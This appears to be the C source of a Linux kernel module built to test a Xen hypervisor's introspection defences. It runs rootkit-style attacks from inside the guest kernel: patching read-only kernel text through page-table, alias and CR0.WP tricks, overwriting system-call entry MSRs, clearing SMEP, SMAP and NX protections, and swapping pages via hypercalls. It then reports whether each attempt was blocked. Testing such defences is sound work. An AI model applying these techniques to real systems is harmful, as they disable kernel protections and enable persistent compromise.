// SPDX-License-Identifier: GPL-2.0
/*
 * An attack on the kernel it is loaded into, for guests that may be harmed.
 *
 * It does what rootkits do once they run in ring 0: it writes into kernel text
 * past its read-only mapping, redirects the system call entry, or switches off
 * what the processor protects the kernel with. It attacks once, while it is
 * loaded, says what it saw and puts back what it changed.
 * Unload it to use it again. (It could fail to load instead, were it not for
 * busybox' insmod, which tries twice.)
 *
 *	mode=text          make a page table entry writable, store one byte
 *	                   through the text mapping
 *	mode=keep          as text, and leave the byte so; with times=N, tried so often,
 *	                   some milliseconds apart, until it lands
 *	mode=poke          have the kernel's own text_poke, which is at poke=0x...,
 *	                   store four bytes, and leave them so
 *	mode=exchange      give the page back to Xen, have it give another one there, and fill
 *	                   that with what was there but for one byte, which stays so
 *	mode=alias         as text, through the direct mapping of the same frame
 *	mode=elsewhere     have the page table lead to a copy of the page behind address=0x...,
 *	                   of a module, store one byte into the page itself through the direct
 *	                   mapping, have the page table lead to it again, and leave the byte so
 *	mode=map           as text, through a mapping of its own of that frame (vmap)
 *	mode=rep           as text, four bytes with rep movsb
 *	mode=called        as text, with a store that a function of the kernel's makes,
 *	                   kstrtobool
 *	mode=wp            as text, by clearing CR0.WP instead; where it stays set,
 *	                   nothing is stored
 *	mode=lstar|star|cstar|sysenter-eip
 *	                   write the MSR
 *	mode=cr0-wp|cr4-smep|cr4-smap|cr4-umip|efer-sce|efer-nxe
 *	                   clear the bit. efer-nxe ends a guest in which it succeeds:
 *	                   its page tables have NX bits in them
 *	times=N            and try so often, or until one write lands. Of MSRs it says in a
 *	                   line of its own how long the longest took, and the next longest
 *	mode=vmfunc        execute VMFUNC, to change to each of the first ten views
 *	mode=oops          no attack: run into an error, as an exploit that fails does. The
 *	                   process that loads the module is ended, and the module stays
 *	mode=end           no attack: end the guest at once, as its own kernel would
 *	reason=N           with this reason (SHUTDOWN_* of xen/include/public/sched.h:
 *	                   0 poweroff, 1 reboot, 3 crash, 4 watchdog, 5 soft_reset)
 *	address=0x...      the target in the modes that write code, or
 *	symbol=NAME        an exported function, default kernel_restart
 *
 * It logs one line:
 *
 *	hvi-pwn: mode=M address=0xA before=0xB tried=0xT after=0xR WRITTEN|BLOCKED
 *
 * A is the target's linear address in the text mapping, or the register's
 * number; several bytes are shown as one little-endian number. For vmfunc the
 * values are the views, one bit each: none before, those tried, and those for
 * which VMFUNC was carried out and not refused with #UD. In a processor that
 * lacks the bit to be cleared it says "no such bit" in place of the values.
 */
#include <linux/delay.h>
#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/ktime.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>
#include <asm/io.h>
#include <asm/msr.h>
#include <asm/page.h>
#include <asm/pgtable.h>
#include <asm/processor-flags.h>
#include <xen/interface/sched.h>
#include <xen/interface/xen.h>
#include <xen/interface/memory.h>
#include <asm/xen/hypercall.h>

static char *mode = "text";
module_param(mode, charp, 0);
static char *symbol = "kernel_restart";
module_param(symbol, charp, 0);
static unsigned long address;
module_param(address, ulong, 0);
static unsigned long poke;
module_param(poke, ulong, 0);
static unsigned int reason;
module_param(reason, uint, 0);
static unsigned int times = 1;
module_param(times, uint, 0);

/* What is flipped in the first byte: enough to be seen, easy to recognize. */
#define FLIP 0x5a

static void report(unsigned long at, u64 before, u64 tried, u64 after)
{
	pr_info("hvi-pwn: mode=%s address=0x%lx before=0x%llx tried=0x%llx after=0x%llx %s\n",
		mode, at, before, tried, after, after == before ? "BLOCKED" : "WRITTEN");
}

static const struct {
	const char *name;
	u32 number;
} msrs[] = {
	{ "lstar", MSR_LSTAR },
	{ "star", MSR_STAR },
	{ "cstar", MSR_CSTAR },
	{ "sysenter-eip", MSR_IA32_SYSENTER_EIP },
};

/* The kernel's own has changed its name more than once. */
static void write_msr(u32 number, u64 value)
{
	asm volatile("wrmsr" : : "c"(number), "a"((u32)value), "d"((u32)(value >> 32)) : "memory");
}

static u64 read_msr(u32 number)
{
	u32 low, high;

	asm volatile("rdmsr" : "=a"(low), "=d"(high) : "c"(number));
	return (u64)high << 32 | low;
}

static void attack_msr(u32 number)
{
	unsigned long flags;
	u64 before, tried, after, start, took, longest = 0, next = 0;
	unsigned int i = 0;

	do {
		/* No system call may come between the write and its undoing. */
		local_irq_save(flags);
		before = read_msr(number);
		/* In STAR, a selector; in the others, an address that stays canonical. */
		tried = number == MSR_STAR ? before ^ (8ULL << 48) : before ^ 0x1000;
		start = ktime_get_ns();
		write_msr(number, tried);
		took = ktime_get_ns() - start;
		after = read_msr(number);
		if (after != before)
			write_msr(number, before);
		local_irq_restore(flags);
		next = max(next, min(took, longest));
		longest = max(longest, took);
		cond_resched();
	} while (++i < times && after == before);
	if (times > 1)
		pr_info("hvi-pwn-times: %u longest=%llu next=%llu ns\n", i, longest, next);
	report(number, before, tried, after);
}

/* The registers with the processor's protections, and these. */
enum control { CR0, CR4, EFER };

static const struct {
	const char *name;
	enum control reg;
	u64 bit;
} bits[] = {
	{ "cr0-wp", CR0, X86_CR0_WP },
	{ "cr4-smep", CR4, X86_CR4_SMEP },
	{ "cr4-smap", CR4, X86_CR4_SMAP },
	{ "cr4-umip", CR4, X86_CR4_UMIP },
	{ "efer-sce", EFER, EFER_SCE },
	{ "efer-nxe", EFER, EFER_NX },
};

static u64 read_control(enum control reg)
{
	unsigned long v = 0;

	switch (reg) {
	case CR0:
		asm volatile("mov %%cr0, %0" : "=r"(v));
		break;
	case CR4:
		asm volatile("mov %%cr4, %0" : "=r"(v));
		break;
	case EFER:
		/* On AMD a guest sees SVME, set by Xen, which it may not write. */
		v = read_msr(MSR_EFER) & ~EFER_SVME;
		break;
	}
	return v;
}

/* The kernel's own would put the bits back (native_write_cr0, native_write_cr4). */
static void write_control(enum control reg, u64 v)
{
	switch (reg) {
	case CR0:
		asm volatile("mov %0, %%cr0" : : "r"((unsigned long)v) : "memory");
		break;
	case CR4:
		asm volatile("mov %0, %%cr4" : : "r"((unsigned long)v) : "memory");
		break;
	case EFER:
		write_msr(MSR_EFER, v);
		break;
	}
}

static void attack_bit(enum control reg, u64 bit)
{
	static const unsigned long number[] = { [CR0] = 0, [CR4] = 4, [EFER] = MSR_EFER };
	unsigned long flags;
	u64 before, tried, after;
	unsigned int i = 0;

	do {
		local_irq_save(flags);
		before = read_control(reg);
		tried = before & ~bit;
		if (tried == before) {
			local_irq_restore(flags);
			pr_info("hvi-pwn: mode=%s no such bit\n", mode);
			return;
		}
		write_control(reg, tried);
		after = read_control(reg);
		if (after != before)
			write_control(reg, before);
		local_irq_restore(flags);
	} while (++i < times && after == before);
	report(number[reg], before, tried, after);
}

/* vmfunc reports whether VMFUNC's leaf 0 is carried out for a view. */
static bool vmfunc(u32 view)
{
	u32 done = 1;

	asm volatile("1: .byte 0x0f, 0x01, 0xd4\n\t"
		     "jmp 3f\n"
		     "2: xorl %0, %0\n"
		     "3:\n"
		     _ASM_EXTABLE(1b, 2b)
		     : "+b"(done) : "a"(0), "c"(view) : "memory");
	return done;
}

static void attack_views(void)
{
	u64 tried = 0, done = 0;
	u32 view;

	for (view = 0; view < 10; view++) {
		tried |= 1ULL << view;
		if (vmfunc(view))
			done |= 1ULL << view;
	}
	report(0, 0, tried, done);
}

/* How attack_text goes about it. */
enum how { THROUGH_TEXT, ALIAS, MAPPED, REP, CALLED, WP };

/* store stores n bytes, with rep movsb, by a function of the kernel's, or one by one. */
static void store(u8 *to, const u8 *from, unsigned long n, enum how how)
{
	unsigned long i;

	if (how == CALLED) {
		if (kstrtobool(from[0] ? "1" : "0", (bool *)to))
			pr_info("hvi-pwn: kstrtobool failed\n");
	} else if (how == REP) {
		asm volatile("rep movsb" : "+D"(to), "+S"(from), "+c"(n) : : "memory");
	} else {
		for (i = 0; i < n; i++)
			asm volatile("movb %1, (%0)" : : "r"(to + i), "q"(from[i]) : "memory");
	}
}

/* write stores n bytes of one page that is read-only to the kernel. */
static void write(u8 *to, const u8 *from, unsigned long n, enum how how)
{
	unsigned int level;
	pte_t *pte = lookup_address((unsigned long)to, &level);
	u64 was;

	if (!pte)
		return;
	was = READ_ONCE(*(u64 *)pte);
	WRITE_ONCE(*(u64 *)pte, was | _PAGE_RW);
	asm volatile("invlpg (%0)" : : "r"(to) : "memory");
	store(to, from, n, how);
	WRITE_ONCE(*(u64 *)pte, was);
	asm volatile("invlpg (%0)" : : "r"(to) : "memory");
}

/* write_wp is write by way of CR0.WP. */
static void write_wp(u8 *to, const u8 *from, unsigned long n)
{
	u64 cr0 = read_control(CR0);

	write_control(CR0, cr0 & ~X86_CR0_WP);
	if (!(read_control(CR0) & X86_CR0_WP))
		store(to, from, n, WP);
	write_control(CR0, cr0);
}

static u64 number(const u8 *b, unsigned long n)
{
	u64 v = 0;

	while (n--)
		v = v << 8 | READ_ONCE(b[n]);
	return v;
}

static int attack_text(enum how how, bool keep)
{
	unsigned long at = address, flags, n = how == REP ? 4 : 1;
	u8 before[4], tried[4], after[4];
	u8 *text, *to;
	void *mapped = NULL;
	unsigned long i;

	if (!at)
		at = (unsigned long)__symbol_get(symbol);
	if (!at) {
		pr_info("hvi-pwn: no exported symbol %s\n", symbol);
		return -ENOENT;
	}
	text = to = (u8 *)at;
	if (how == ALIAS)
		to = __va(__pa_symbol(at));
	if (how == MAPPED) {
		struct page *page = pfn_to_page(__pa_symbol(at) >> PAGE_SHIFT);

		mapped = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
		if (!mapped)
			return -ENOMEM;
		to = (u8 *)mapped + offset_in_page(at);
	}

	local_irq_save(flags);
	for (i = 0; i < n; i++) {
		before[i] = READ_ONCE(text[i]);
		tried[i] = how == CALLED ? before[i] != 1 : before[i] ^ FLIP;
	}
	if (how == WP)
		write_wp(to, tried, n);
	else
		write(to, tried, n, how);
	for (i = 0; i < n; i++)
		after[i] = READ_ONCE(text[i]);
	if (!keep && memcmp(after, before, n))
		write(to, before, n, how == REP ? REP : THROUGH_TEXT);
	local_irq_restore(flags);
	vunmap(mapped);
	report(at, number(before, n), number(tried, n), number(after, n));
	return 0;
}

/* attack_slowly tries to have a byte of code changed for good. */
static int attack_slowly(void)
{
	unsigned int i = 0;
	u8 *text = (u8 *)address;
	u8 before;
	int err;

	if (times == 1 || !address)
		return attack_text(THROUGH_TEXT, true);
	before = READ_ONCE(*text);
	do {
		err = attack_text(THROUGH_TEXT, true);
		usleep_range(5000, 10000);
	} while (!err && ++i < times && READ_ONCE(*text) == before);
	return err;
}

/* attack_poke has the kernel itself patch its code, with what does not belong there. */
static int attack_poke(void)
{
	void *(*text_poke)(void *to, const void *from, size_t n) = (void *)poke;
	const u8 *text = (const u8 *)address;
	u8 before[4], tried[4], after[4];
	unsigned int i;

	if (!poke || !address)
		return -EINVAL;
	for (i = 0; i < sizeof(before); i++) {
		before[i] = READ_ONCE(text[i]);
		tried[i] = before[i] ^ FLIP;
	}
	text_poke((void *)address, tried, sizeof(tried));
	for (i = 0; i < sizeof(after); i++)
		after[i] = READ_ONCE(text[i]);
	report(address, number(before, 4), number(tried, 4), number(after, 4));
	return 0;
}

/* attack_exchange puts another page in the place of one of the kernel's code. */
static int attack_exchange(void)
{
	xen_pfn_t frame = __pa_symbol(address) >> PAGE_SHIFT;
	struct xen_memory_reservation r = { .nr_extents = 1, .domid = DOMID_SELF };
	struct page *page = pfn_to_page(frame);
	const u8 *text = (const u8 *)address;
	u8 before, tried, after, *copy, *to;
	unsigned long flags;
	int given = 0, taken;

	if (!address)
		return -EINVAL;
	copy = kmalloc(PAGE_SIZE, GFP_KERNEL);
	to = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!copy || !to)
		return -ENOMEM;
	set_xen_guest_handle(r.extent_start, &frame);
	memcpy(copy, (void *)(address & PAGE_MASK), PAGE_SIZE);
	before = *text;
	tried = before ^ FLIP;
	copy[offset_in_page(address)] = tried;
	local_irq_save(flags);
	taken = HYPERVISOR_memory_op(XENMEM_decrease_reservation, &r);
	if (taken == 1)
		given = HYPERVISOR_memory_op(XENMEM_populate_physmap, &r);
	if (given == 1)
		memcpy(to, copy, PAGE_SIZE);
	after = READ_ONCE(*text);
	local_irq_restore(flags);
	vunmap(to);
	kfree(copy);
	report(address, before, tried, after);
	return 0;
}

/* attack_elsewhere writes to a page while the page table says that it is not a module's. */
static int attack_elsewhere(void)
{
	unsigned long at = address + PAGE_SIZE, flags;
	unsigned int level;
	pte_t *pte = lookup_address(at, &level);
	struct page *other = alloc_page(GFP_KERNEL);
	u8 before, tried, after, *to;
	u64 was;

	if (!address || !pte || level != PG_LEVEL_4K || !other)
		return -EINVAL;
	was = READ_ONCE(*(u64 *)pte);
	to = (u8 *)__va(was & PTE_PFN_MASK) + offset_in_page(at);
	memcpy(page_address(other), (void *)(at & PAGE_MASK), PAGE_SIZE);
	local_irq_save(flags);
	before = READ_ONCE(*(u8 *)at);
	tried = before ^ FLIP;
	WRITE_ONCE(*(u64 *)pte, (was & ~PTE_PFN_MASK) | __pa(page_address(other)));
	asm volatile("invlpg (%0)" : : "r"(at) : "memory");
	write(to, &tried, 1, false);
	WRITE_ONCE(*(u64 *)pte, was);
	asm volatile("invlpg (%0)" : : "r"(at) : "memory");
	after = READ_ONCE(*(u8 *)at);
	local_irq_restore(flags);
	__free_page(other);
	report(at, before, tried, after);
	return 0;
}

static int end(void)
{
	struct sched_shutdown s = { .reason = reason };
	int err = HYPERVISOR_sched_op(SCHEDOP_shutdown, &s);

	pr_info("hvi-pwn: mode=%s reason=%u: still here, %d\n", mode, reason, err);
	return 0;
}

static int __init pwn_init(void)
{
	unsigned int i;

	if (!strcmp(mode, "end"))
		return end();
	if (!strcmp(mode, "oops"))
		BUG();
	for (i = 0; i < ARRAY_SIZE(msrs); i++) {
		if (!strcmp(mode, msrs[i].name)) {
			attack_msr(msrs[i].number);
			return 0;
		}
	}
	for (i = 0; i < ARRAY_SIZE(bits); i++) {
		if (!strcmp(mode, bits[i].name)) {
			attack_bit(bits[i].reg, bits[i].bit);
			return 0;
		}
	}
	if (!strcmp(mode, "vmfunc")) {
		attack_views();
		return 0;
	}
	if (!strcmp(mode, "text"))
		return attack_text(THROUGH_TEXT, false);
	if (!strcmp(mode, "keep"))
		return attack_slowly();
	if (!strcmp(mode, "poke"))
		return attack_poke();
	if (!strcmp(mode, "exchange"))
		return attack_exchange();
	if (!strcmp(mode, "elsewhere"))
		return attack_elsewhere();
	if (!strcmp(mode, "alias"))
		return attack_text(ALIAS, false);
	if (!strcmp(mode, "map"))
		return attack_text(MAPPED, false);
	if (!strcmp(mode, "rep"))
		return attack_text(REP, false);
	if (!strcmp(mode, "called"))
		return attack_text(CALLED, false);
	if (!strcmp(mode, "wp"))
		return attack_text(WP, false);
	return -EINVAL;
}
module_init(pwn_init);

static void __exit pwn_exit(void)
{
}
module_exit(pwn_exit);

MODULE_DESCRIPTION("Attack on kernel text and the processor's registers, for tests");
MODULE_LICENSE("GPL");
